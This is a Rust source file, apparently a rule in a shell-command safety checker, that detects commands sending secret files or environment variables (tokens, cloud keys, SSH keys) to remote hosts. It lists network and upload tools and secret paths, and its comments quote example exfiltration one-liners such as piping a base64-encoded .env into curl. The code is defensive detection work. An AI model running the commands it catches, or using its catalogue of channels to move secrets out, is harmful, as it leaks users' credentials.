//! Secrets that leave the machine: files that hold them and what stands in the environment, sent to somebody.

use super::Verdict;
use super::look::Look;
use super::pattern::glob;
use super::shells::connects;
use super::shipped::{Finding, SEND_SECRETS};
use super::table::table;
use crate::shell::{Command, How, Part, RedirectKind, Word};

/// Programs whose words alone reach others: a name that is looked up, a page that is asked for.
const ASK: &str = "curl wget http https xh httpie dig nslookup host ping ping6 telnet nc ncat netcat socat ftp lynx w3m drill";
/// A secret that is written somewhere and sent later.
const MAX_COPIES: usize = 64;
/// Variables everybody's tools keep keys in, and whose servers may hear of them.
const VARIABLES: &[(&str, &str)] = &[
    ("GITHUB_TOKEN", "github"),
    ("GH_TOKEN", "github"),
    ("GITLAB_TOKEN", "gitlab"),
    ("NPM_TOKEN", "npm"),
    ("AWS_SECRET_ACCESS_KEY", "amazonaws"),
    ("AWS_SESSION_TOKEN", "amazonaws"),
    ("ANTHROPIC_API_KEY", "anthropic"),
    ("OPENAI_API_KEY", "openai"),
    ("STRIPE_SECRET_KEY", "stripe"),
    ("DATABASE_URL", "\0"),
    ("SSH_PRIVATE_KEY", "\0"),
    ("PRIVATE_KEY", "\0"),
];

pub(super) fn find(look: &Look<'_>, all: &mut Vec<Finding>) {
    let mut copies: Vec<String> = Vec::new();
    for (at, command) in look.commands() {
        let Some(program) = look.program(at) else { continue };
        if sends(look, at, command, &program, &copies) && !is_local(look, at) {
            all.push(Finding { rule: &SEND_SECRETS, verdict: Verdict::Ask, commands: vec![at] });
        }
        let has_secret = || is_secret(look, at) || upstream(look, at) || names_secret(look, at, &copies);
        let copied = || {
            let writes = look.writes(at).iter().filter(|write| matches!(write.how, How::Write | How::Append));
            writes.map(|write| write.path.clone()).filter(|path| !path.contains('*')).take(MAX_COPIES)
        };
        if copies.len() < MAX_COPIES && copied().next().is_some() && has_secret() {
            copies.extend(copied());
        }
    }
}

/// What it says is secret: the environment, or a file that holds keys.
fn is_secret(look: &Look<'_>, at: usize) -> bool {
    let words = look.raw[at].get(1..).unwrap_or_default();
    let only = |options: &[&str]| words.iter().all(|word| options.contains(&word.as_str()));
    match look.program(at).as_deref() {
        Some("env") => only(&["-0", "--null"]),
        Some("printenv" | "set" | "history") => words.is_empty(),
        Some("export" | "declare" | "typeset") => only(&["-p", "-x", "-px"]),
        Some(program) => {
            const SAY: &str = "cat tac head tail less more nl strings xxd od hexdump base64 base32 gzip zcat bzip2 xz zip tar \
                bsdtar sed awk grep egrep rg cut sort uniq tr tee jq yq openssl gpg dd cp paste envsubst";
            SAY.split_whitespace().any(|known| known == program) && names_secret(look, at, &[])
        }
        None => false,
    }
}

fn names_secret(look: &Look<'_>, at: usize, copies: &[String]) -> bool {
    let command = &look.script.commands[at];
    let inputs = command.redirects.iter().filter(|redirect| redirect.kind == RedirectKind::Read);
    let words = command.arguments().iter().chain(inputs.map(|redirect| &redirect.target));
    words.into_iter().any(|word| holds(&word.shape(), copies))
}

/// `file=@path;type=x`, `--data=@path`: the path is between two of these signs.
fn holds(word: &str, copies: &[String]) -> bool {
    word.split(['@', '=', ';', '<', '\u{1}'])
        .any(|piece| is_secret_file(piece) || copies.iter().any(|copy| copy == piece))
}

/// By its name, wherever it lies.
pub(super) fn is_secret_file(path: &str) -> bool {
    let name = path.trim_end_matches('/').rsplit('/').next().unwrap_or(path);
    if name.is_empty() || path.contains("://") {
        return false;
    }
    const PUBLIC: &str = "example sample template dist pub test schema defaults";
    let is_public = name.rsplit('.').next().is_some_and(|end| PUBLIC.split(' ').any(|public| public == end));
    let is_listed = || table().secrets.iter().any(|secret| fits(secret, name));
    let is_place =
        || path.ends_with(".kube/config") || path.ends_with(".docker/config.json") || path == "/etc/passwd";
    // `*` is whatever stands there.
    !is_public && (table().secrets.contains(&name) || !name.starts_with('*') && (is_listed() || is_place()))
}

/// As [`glob`] would say, without its cost where there is one `*` at either end.
fn fits(pattern: &str, name: &str) -> bool {
    let inner = pattern.trim_matches('*');
    match (pattern.starts_with('*'), pattern.ends_with('*')) {
        _ if inner.contains('*') => glob(pattern, name),
        (false, false) => name == inner,
        (true, false) => name.ends_with(inner),
        (false, true) => name.starts_with(inner),
        (true, true) => name.contains(inner),
    }
}

fn upstream(look: &Look<'_>, at: usize) -> bool {
    look.script.upstream(at).into_iter().any(|at| is_secret(look, at))
}

fn sends(look: &Look<'_>, at: usize, command: &Command, program: &str, copies: &[String]) -> bool {
    let words = &look.raw[at];
    let is_input = |redirect: &crate::shell::Redirect| {
        redirect.kind == RedirectKind::Read && holds(&redirect.target.shape(), copies)
    };
    let input = || upstream(look, at) || command.redirects.iter().any(is_input);
    // `curl https://x/$(cat .env | base64)`.
    let said = || {
        ASK.split(' ').any(|known| known == program)
            && command.arguments().iter().any(|word| {
                is_said(look, word)
                    || names_variable(look, at, word)
                    || (word.parts().contains(&Part::Given) && is_given_secret(look, at))
            })
    };
    let into_network = || {
        let is_connection = |word: &Word| {
            matches!(
                &*word.prefix().get(..9).map(str::to_owned).unwrap_or_default(),
                "/dev/tcp/" | "/dev/udp/"
            )
        };
        command.redirects.iter().any(|redirect| redirect.kind.is_output() && is_connection(&redirect.target))
            && (is_secret(look, at) || upstream(look, at))
    };
    if into_network() || said() {
        return true;
    }
    match program {
        "curl" => {
            let uploads = uploads(words);
            uploads.iter().any(|word| {
                holds(word.trim_start_matches(['@', '<']), copies) && word.contains(['@', '<', '\u{1}'])
            }) || (uploads.iter().any(|word| {
                word.contains("@-")
                    || word.contains("<-")
                    || word.ends_with("\u{1}-")
                    || word.contains("@/dev/stdin")
            }) && input())
        }
        "wget" | "wget2" => words.iter().enumerate().any(|(at, word)| {
            let value = word.strip_prefix("--post-file=").or_else(|| word.strip_prefix("--body-file="));
            let next =
                matches!(word.as_str(), "--post-file" | "--body-file").then(|| words.get(at + 1)).flatten();
            value
                .or(next.map(String::as_str))
                .is_some_and(|file| holds(file, copies) || (file == "-" && input()))
        }),
        "http" | "https" | "xh" | "httpie" => {
            input() || words.iter().any(|word| word.contains('@') && holds(word, copies))
        }
        "ssh" | "mail" | "mailx" | "mutt" | "sendmail" | "rclone" => input(),
        "sftp" | "ftp" | "lftp"
            if look.fed(at).is_some_and(|text| text.split_whitespace().any(|word| holds(word, copies))) =>
        {
            true
        }
        "scp" | "rsync" | "sftp" | "pscp" | "lftp" | "rcp" => {
            let operands: Vec<&String> = words.iter().skip(1).filter(|word| !word.starts_with('-')).collect();
            let is_remote = |word: &str| word.split('/').next().is_some_and(|host| host.contains(':'));
            let goes = operands.last().is_some_and(|target| is_remote(target));
            let key = words.iter().position(|word| word == "-i").and_then(|at| words.get(at + 1));
            goes && operands.iter().any(|word| !is_remote(word) && Some(*word) != key && holds(word, copies))
        }
        "aws" | "gsutil" | "gcloud" | "az" | "azcopy" | "s3cmd" | "mc" => {
            let is_copy = words
                .iter()
                .any(|word| matches!(word.as_str(), "cp" | "mv" | "sync" | "put" | "copy" | "upload"));
            let is_far = words.last().is_some_and(|word| word.contains("://"));
            is_copy && is_far && words.iter().skip(1).any(|word| holds(word, copies))
        }
        "gh" | "gist" => {
            words.iter().any(|word| word == "gist" || program == "gist")
                && (input() || words.iter().any(|word| holds(word, copies)))
        }
        program if connects(program) => input(),
        "ftp" | "tftp" | "dnscat" | "termbin" | "transfer" | "croc" | "wormhole" | "magic-wormhole" => {
            input() || words.iter().skip(1).any(|word| holds(word, copies))
        }
        _ => false,
    }
}

/// Another program says a word of it: `env | xargs curl`, `find -name '*.pem' -exec curl`.
fn is_given_secret(look: &Look<'_>, at: usize) -> bool {
    let outer = look.script.commands[at].within;
    let is_found = |outer: usize| {
        matches!(look.program(outer).as_deref(), Some("find" | "gfind" | "fd"))
            && names_secret(look, outer, &[])
    };
    upstream(look, at) || outer.is_some_and(is_found)
}

/// What `curl` takes as what it sends; what `-T` names is a file without a sign before it.
fn uploads(words: &[String]) -> Vec<String> {
    let mut all = Vec::new();
    for (at, word) in words.iter().enumerate().skip(1) {
        let next = || words.get(at + 1).cloned();
        let (name, value) = word
            .split_once('=')
            .map_or((word.as_str(), None), |(name, value)| (name, Some(value.to_owned())));
        match name {
            "--data" | "--data-binary" | "--data-raw" | "--data-urlencode" | "--data-ascii" | "--json"
            | "--form" | "--form-string" | "--url-query" => all.extend(value.or_else(next)),
            "--upload-file" => all.extend(value.or_else(next).map(|file| format!("\u{1}{file}"))),
            _ if word.starts_with("--") || !word.starts_with('-') => {}
            _ => {
                // `-sd @file`, `-Ffile=@x`, `-T file`.
                let Some(letter) = word.find(['d', 'F', 'T']) else { continue };
                let rest = word[letter + 1..].to_owned();
                let value = if rest.is_empty() { next() } else { Some(rest) };
                let is_file = &word[letter..=letter] == "T";
                all.extend(value.map(|value| if is_file { format!("\u{1}{value}") } else { value }));
            }
        }
    }
    all
}

/// A part of the word is what a command says that says a secret.
fn is_said(look: &Look<'_>, word: &Word) -> bool {
    word.parts().iter().any(|part| match part {
        Part::Output(range) | Part::Process(range) => range.clone().any(|at| {
            is_secret(look, at) || (look.script.commands[at].words.is_empty() && names_secret(look, at, &[]))
        }),
        _ => false,
    })
}

/// A key of one service in what is sent to another. A header is where a key belongs.
fn names_variable(look: &Look<'_>, at: usize, word: &Word) -> bool {
    let is_header = word.prefix().to_ascii_lowercase().starts_with("authorization")
        || word.prefix().to_ascii_lowercase().starts_with("x-");
    let names = word.parts().iter().filter_map(|part| match part {
        Part::Variable { name, .. } => Some(name.as_str()),
        _ => None,
    });
    let mut homes = names.filter_map(|name| VARIABLES.iter().find(|(known, _)| *known == name));
    let has_address = look.raw[at].iter().any(|word| word.contains('.') && !word.starts_with('*'));
    !is_header
        && has_address
        && homes.any(|(_, home)| !look.raw[at].iter().any(|word| word.to_ascii_lowercase().contains(home)))
}

/// It stays on this machine.
fn is_local(look: &Look<'_>, at: usize) -> bool {
    const LOCAL: &[&str] = &["localhost", "127.0.0.1", "[::1]", "0.0.0.0", "host.docker.internal"];
    look.raw[at].iter().skip(1).any(|word| {
        let host = word.split("://").nth(1).unwrap_or(word);
        LOCAL.iter().any(|local| host.starts_with(local))
    })
}
